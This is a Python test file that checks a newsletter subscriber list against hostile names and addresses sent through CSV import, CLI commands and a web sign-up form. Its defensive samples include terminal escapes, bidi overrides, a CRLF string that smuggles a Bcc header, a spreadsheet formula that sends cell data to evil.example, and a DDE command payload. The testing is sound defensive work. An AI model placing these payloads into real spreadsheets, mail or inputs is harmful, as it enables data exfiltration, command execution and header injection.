"""Attacks on the subscriber list through each door an address or a name comes in by: a CSV import,
the ``subscribers`` commands and the public sign-up form. Each row: the input, the one line (or the
status) expected, and the list otherwise unchanged."""

from __future__ import annotations

import csv
import io
import sqlite3
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest

from pipeline.audience.subscribers import add, export_csv, import_csv
from pipeline.db import open_db
from tests.support.cli import invoke_cli
from tests.support.newsletter import Newsletter

BUCHER = "u@bücher.example"  # on the list before each attack
DECOMPOSED = unicodedata.normalize("NFD", BUCHER)


def snapshot(db: sqlite3.Connection) -> list[list[tuple[object, ...]]]:
    """Everything an attack could change: the subscribers and their history."""
    return [
        [tuple(r) for r in db.execute(f"SELECT * FROM {table} ORDER BY id")]
        for table in ("subscribers", "status_changes")
    ]


@dataclass(frozen=True)
class CsvAttack:
    name: str
    csv: str
    expected: str
    """The report's line for the row (``line N: ...``), or its summary line when nothing is refused."""


CSV_ATTACKS = [
    CsvAttack(
        "terminal escape in a name",
        'email,name\neve@example.org,"Eve\x1b]0;owned\x07"\n',
        "line 2: rejected: eve@example.org: name contains the control character U+001B (escape) at character 4",
    ),
    CsvAttack(
        "C1 next-line hidden at the end of a name",
        'email,name\neve@example.org,"Eve\x85"\n',
        "line 2: rejected: eve@example.org: name contains the control character U+0085 (next line) at character 4",
    ),
    CsvAttack(
        "C1 control sequence introducer",
        'email,name\neve@example.org,"\x9b2J"\n',
        "line 2: rejected: eve@example.org: name contains the control character U+009B (csi) at character 1",
    ),
    CsvAttack(
        "bidi override reversing a name",
        'email,name\neve@example.org,"Eve \u202egnp.exe"\n',
        "line 2: rejected: eve@example.org: name contains the control character U+202E "
        "(right-to-left override) at character 5",
    ),
    CsvAttack(
        "bidi isolate",
        'email,name\neve@example.org,"\u2066Eve"\n',
        "line 2: rejected: eve@example.org: name contains the control character U+2066 "
        "(left-to-right isolate) at character 1",
    ),
    CsvAttack(
        "header injection in an address",
        'email\n"eve@example.org\r\nBcc: all@example.org"\n',
        "line 2: rejected: eve@example.org\\r\\nBcc: all@example.org: contains the control character U+000D (carriage return) "
        "at character 16",
    ),
    CsvAttack(
        "the punycode spelling of a subscriber",
        "email\nu@xn--bcher-kva.example\n",
        "0 added, 0 updated, 1 unchanged, 0 skipped, 0 rejected",
    ),
    CsvAttack(
        "a decomposed-Unicode spelling of a subscriber",
        f"email\n{DECOMPOSED}\n",
        "0 added, 0 updated, 1 unchanged, 0 skipped, 0 rejected",
    ),
]


@pytest.mark.parametrize("attack", CSV_ATTACKS, ids=lambda a: a.name)
def test_csv_import(tmp_path: Path, attack: CsvAttack) -> None:
    from pipeline.audience.subscribers import describe

    db = open_db(tmp_path / "state")
    add(db, BUCHER, "U")
    before = snapshot(db)
    path = tmp_path / "attack.csv"
    path.write_text(attack.csv, encoding="utf-8")
    lines = list(describe(import_csv(db, path)))
    assert attack.expected in [line.strip() for line in lines], lines
    assert snapshot(db) == before


@dataclass(frozen=True)
class CommandAttack:
    name: str
    args: tuple[str, ...]
    expected: str
    """The one line on stderr."""


COMMAND_ATTACKS = [
    CommandAttack(
        "adding the punycode spelling of a subscriber",
        ("subscribers", "add", "u@xn--bcher-kva.example"),
        f"error: {BUCHER} is already on the list",
    ),
    CommandAttack(
        "adding a decomposed spelling of a subscriber",
        ("subscribers", "add", DECOMPOSED),
        f"error: {BUCHER} is already on the list",
    ),
    CommandAttack(
        "a name with a terminal escape",
        ("subscribers", "add", "eve@example.org", "--name", "Eve\x1b[2J"),
        "error: 'eve@example.org': name contains the control character U+001B (escape) at character 4",
    ),
    CommandAttack(
        "an address with a bidi override",
        ("subscribers", "add", "\u202eeve@example.org"),
        "error: '\\u202eeve@example.org': contains the control character U+202E (right-to-left override) "
        "at character 1",
    ),
]


@pytest.mark.parametrize("attack", COMMAND_ATTACKS, ids=lambda a: a.name)
def test_subscribers_command(newsletter: Newsletter, attack: CommandAttack) -> None:
    db = open_db(newsletter.config().paths.state)
    add(db, BUCHER, "U")
    before = snapshot(db)
    result = invoke_cli(newsletter.config_path, *attack.args)
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [attack.expected]
    assert snapshot(db) == before


FORMULA_NAMES = ['=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_formula_in_a_name_or_an_address_reaches_no_spreadsheet_and_comes_back_intact(
    tmp_path: Path, name: str
) -> None:
    db = open_db(tmp_path / "state")
    add(db, "=1+1@example.com", name)
    out = io.StringIO()
    export_csv(db, out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert (row["email"], row["name"]) == ("'=1+1@example.com", f"'{name}")
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    again = open_db(tmp_path / "again")
    assert import_csv(again, path).added == 1
    assert [tuple(r) for r in again.execute("SELECT email, name FROM subscribers")] == [
        ("=1+1@example.com", name)
    ]


@pytest.mark.slow
def test_sign_up_form(newsletter: Newsletter) -> None:
    """Through the real service: spellings of one mailbox are one subscriber and count against one
    per-address limit; a name with a control character gets the form back (400), nothing stored."""
    from tests.web.test_web import running_site

    with running_site(newsletter, signups_per_address_per_day=1) as site:
        for spelling in (BUCHER, "u@xn--bcher-kva.example", DECOMPOSED, "U@BÜCHER.example"):
            assert site.sign_up(spelling).status_code == 200
        site.wait_handled(1)  # the others were dropped by the per-address limit: no work after the answer
        assert len(site.mails()) == 1
        refused = site.sign_up("eve@example.org", "Eve\x1b[2J")
        assert refused.status_code == 400 and "control characters" in refused.text
        refused = site.sign_up("eve@example.org", "Eve\u202e")
        assert refused.status_code == 400
        db = site.db()
        assert [tuple(r) for r in db.execute("SELECT email, status FROM subscribers")] == [
            (BUCHER, "pending")
        ]
